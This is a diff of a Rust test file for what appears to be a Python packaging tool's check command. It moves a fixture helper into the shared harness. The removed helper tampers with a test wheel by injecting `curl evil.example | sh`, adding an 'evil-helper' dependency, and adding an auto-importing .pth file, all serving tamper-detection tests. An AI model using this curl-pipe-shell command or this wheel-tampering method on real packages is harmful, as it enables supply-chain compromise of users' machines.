@@ -3,7 +3,7 @@
 
 use std::io::{Cursor, Read, Write};
 
-use crate::harness::{Run, TestContext, testdata_artifact};
+use crate::harness::{Run, TestContext, republished_wheel, testdata_artifact};
 
 const TINY_WHEEL: &str = "tinyproj-1.0.0-py3-none-any.whl";
 const TINY_SDIST: &str = "tinyproj-1.0.0.tar.gz";
@@ -40,36 +40,6 @@ fn check(context: &TestContext, args: &[&str]) -> Run {
         "check never writes"
     );
     run
-}
-
-/// The tinyproj wheel, republished: its module changed, a `.pth` added, and a dependency
-/// added to METADATA.
-fn republished_wheel() -> Vec<u8> {
-    let original = fs_err::read(testdata_artifact("tinyproj", TINY_WHEEL)).unwrap();
-    let mut archive = zip::ZipArchive::new(Cursor::new(original)).unwrap();
-    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
-    let options = zip::write::SimpleFileOptions::default();
-    for index in 0..archive.len() {
-        let mut member = archive.by_index(index).unwrap();
-        let name = member.name().unwrap().to_string();
-        let mut text = String::new();
-        member.read_to_string(&mut text).unwrap();
-        if name.ends_with("__init__.py") {
-            text.push_str("import os; os.system('curl evil.example | sh')\n");
-        }
-        if name.ends_with("METADATA") {
-            text = text.replacen(
-                "Version: 1.0.0\n",
-                "Version: 1.0.0\nRequires-Dist: evil-helper\n",
-                1,
-            );
-        }
-        writer.start_file(name, options).unwrap();
-        writer.write_all(text.as_bytes()).unwrap();
-    }
-    writer.start_file("zzz_tinyproj.pth", options).unwrap();
-    writer.write_all(b"import tinyproj\n").unwrap();
-    writer.finish().unwrap().into_inner()
 }
 
 #[test]
